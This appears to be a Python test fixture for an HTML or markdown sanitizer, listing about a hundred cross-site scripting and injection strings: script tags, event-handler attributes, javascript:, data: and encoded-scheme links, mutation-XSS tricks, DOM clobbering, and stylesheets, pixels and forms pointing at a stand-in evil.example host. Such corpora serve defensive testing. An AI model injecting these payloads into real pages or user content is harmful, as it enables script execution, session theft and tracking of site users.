"""Texts that try to become script, style, frames or foreign addresses. One a line, where lines allow."""

XSS = [
    *r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" style="position:fixed">
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">CLICK</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example)}</style>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>
<template><script>alert(1)</script></template>
<a href="javascript:alert(1)">x</a>
<a href="x" onclick="alert(1)">x</a>
<p style="background:url(javascript:alert(1))">x</p>
<p id=composer name=body class=toast>clobber</p>
<form action=//evil.example><button>Send</button></form>
<div data-user="1" class="mention">@owner</div>
<span class="mention" data-user="1">@owner</span>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](  javascript:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;avascript&colon;alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](\javascript:alert(1))
[x](%6aavascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](//evil.example/x)
[x](/admin/logout/)
[x](#composer)
[x](blob:https://example.org/1)
[x](http:javascript:alert(1))
[x](https://example.org/" onmouseover="alert(1))
[x](https://example.org/ "title\" onmouseover=\"alert(1)")
[x](https://example.org/ '"><img src=x onerror=alert(1)>')
[x](<javascript:alert(1)>)
[<img src=x onerror=alert(1)>](https://example.org)
[x][1]&#10;&#10;[1]: javascript:alert(1)
![x](javascript:alert(1))
![x](https://evil.example/pixel.gif)
![x" onerror="alert(1)](https://evil.example/x)
![](data:image/svg+xml;base64,PHN2Zy8+)
[![x](https://evil.example/x.png)](javascript:alert(1))
<javascript:alert(1)>
<data:text/html,x>
<https://example.org/"onmouseover="alert(1)>
<mailto:a@example.org?subject="><script>alert(1)</script>>
https://example.org/"><script>alert(1)</script>
https://example.org/'onmouseover='alert(1)
https://example.org/<svg/onload=alert(1)>
javascript://example.org/%0aalert(1)
www.example.org"onmouseover="alert(1)
a@example.org"><script>alert(1)</script>
`<script>alert(1)</script>`
**<b onmouseover=alert(1)>x</b>**
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
@<script>alert(1)</script>
@room<script>alert(1)</script>
'''.strip().splitlines(),
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: https://example.org '\"><script>alert(1)</script>'",
    "```<script>alert(1)</script>\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```python\n'</span></code><img src=x onerror=alert(1)>'\n```",
    "    <script>alert(1)</script>",
    '|<script>|\n|:-:" onclick=alert(1)|\n|x|',
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "<img src=x\nonerror=alert(1)>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "[x](java\nscript:alert(1))",
    "# <script>alert(1)</script>",
    "> <iframe src=//evil.example>",
    "- <style>*{}</style>",
]
